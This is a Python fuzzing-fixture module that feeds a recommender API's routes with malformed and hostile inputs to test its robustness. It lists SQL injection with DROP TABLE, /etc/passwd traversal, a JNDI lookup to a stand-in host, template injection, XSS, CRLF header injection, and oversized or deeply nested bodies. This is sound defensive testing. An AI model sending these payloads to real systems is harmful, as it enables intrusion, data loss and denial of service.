"""Bodies, field values and paths that nobody sends by mistake, for `bench.serve_fuzz`."""

import json
from collections.abc import Callable, Iterator
from typing import Any

MEGABYTE = 2**20
REQUESTS: dict[str, dict[str, Any]] = {
    "/v1/recommend": {
        "user": "ann", "pseudonym": None, "history": ["a"], "text": "words", "k": 3, "where": {"tags": "x"},
        "candidates": ["a"], "exclude_seen": True, "diversity": 0.5, "request_id": "1",
    },
    "/v1/search": {"query": "words", "user": "ann", "history": ["a"], "k": 3, "where": {"tags": "x"}},
    "/v1/profile": {"text": "words", "row": {"title": "words", "tags": ["x"]}, "k": 3},
    "/v1/explain": {"item": "a", "user": "ann", "history": ["a"], "text": "words", "words": True},
    "/v1/predict": {"items": ["a"], "user": "ann", "history": ["a"], "text": "words"},
    "/v1/feedback": {"events": [{
        "event_id": "1", "user": "ann", "pseudonym": None, "item_id": "a", "event": "like", "value": 1.0,
        "at": "2026-01-01T00:00:00Z", "release": "1", "list_id": "1",
    }]},
}  # fmt: skip
"""A request of each route that takes a body, with all its fields."""
STRINGS = (
    "' OR 1=1; DROP TABLE feedback_events; --", "\" UNION SELECT * FROM feedback_about --", "../../../../etc/passwd",
    "/etc/passwd\0.json", "file:///etc/passwd", "{{7*7}}", "${jndi:ldap://x.example/a}", "{0.__class__}", "%s%n%x",
    "<script>alert(1)</script>", "a\r\nSet-Cookie: b=c", "\u202egnp.exe", "\u0000", "\ud800", "💥" * 300, " ", "",
    "A" * 300_000, "words " * 3_300, "١٢٣", "ﷺ" * 200, "-1", "1e999", "null",
)  # fmt: skip
VALUES: tuple[Any, ...] = (
    None, True, -1, 0, 10**30, -(10**400), 1e308, 2**63, "", "x", [], [[]], [None], {}, {"a": {}}, [{}], [1, "a"],
    {"gte": 1, "lt": "a"}, {"in": [None]}, {"not": {"not": 1}}, {"eq": []}, {"gte": True}, ["x"] * 20_000,
    {str(n): n for n in range(5000)},
)  # fmt: skip
DEEP = 100_000
RAW = (
    b"", b" ", b"null", b"nope", b"{", b"[]", b'"x"', b"\xff\xfe{}", b'{"text": "\xc3\x28"}', b'{"\xed\xa0\x80": 1}',
    b"\xef\xbb\xbf{}", b'{"k": NaN}', b'{"k": Infinity}', b'{"diversity": -Infinity}', b'{"k": 1e999}', b'{"k": -0.0}',
    b'{"k": ' + b"9" * 200_000 + b"}", b'{"k": 1, "k": []}', b'{"text": "\\ud800"}', b'{"\\udfff": 1}', b"\0" * 1000,
    b"[" * DEEP, b'{"a":' * DEEP, b'{"where": ' + b"[" * DEEP + b"]" * DEEP + b"}",
    b'{"where": {"tags": ' + b'{"not":' * 900 + b"1" + b"}" * 902,
    b'{"text": "' + b"a" * 10 * MEGABYTE + b'"}', b'{"row": {"title": "' + b"b" * (MEGABYTE - 100) + b'"}}',
)  # fmt: skip
PATHS = (
    "%00", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/params.yaml", "a" * 60_000, "%ff%fe", "%ed%a0%80", "a/b/c",
    "'%20OR%201=1", "{{7*7}}", "a?k=-1", "a?k=1e9", "a?k=99999999999999999999", "a?k=NaN", "a?k=1&k=x", "a?k[]=1",
    "%0d%0aX:1",
)  # fmt: skip


def bodies(whole: dict[str, Any]) -> Iterator[bytes]:
    """The request with each value in each of its fields, one at a time."""
    for value in (*STRINGS, *VALUES):
        for put in _places(whole):
            yield json.dumps(put(value)).encode()


def _places(plain: Any) -> Iterator[Callable[[Any], Any]]:  # noqa: ANN401  any JSON value
    """Functions that put a value in one place of a JSON document each; null places stay out of the way."""
    yield lambda value: value
    steps = plain.items() if isinstance(plain, dict) else enumerate(plain) if isinstance(plain, list) else ()
    for step, inner in list(steps):
        for put in _places(inner):

            def replaced(value: Any, step: Any = step, put: Callable[[Any], Any] = put) -> Any:  # noqa: ANN401
                changed = plain.copy()
                changed[step] = put(value)
                return changed

            yield replaced


def chunks() -> Iterator[bytes]:
    """A body of 10 MB in pieces, whose length no header announces."""
    yield b'{"text": "'
    for _ in range(160):
        yield b"a" * (MEGABYTE // 16)
    yield b'"}'
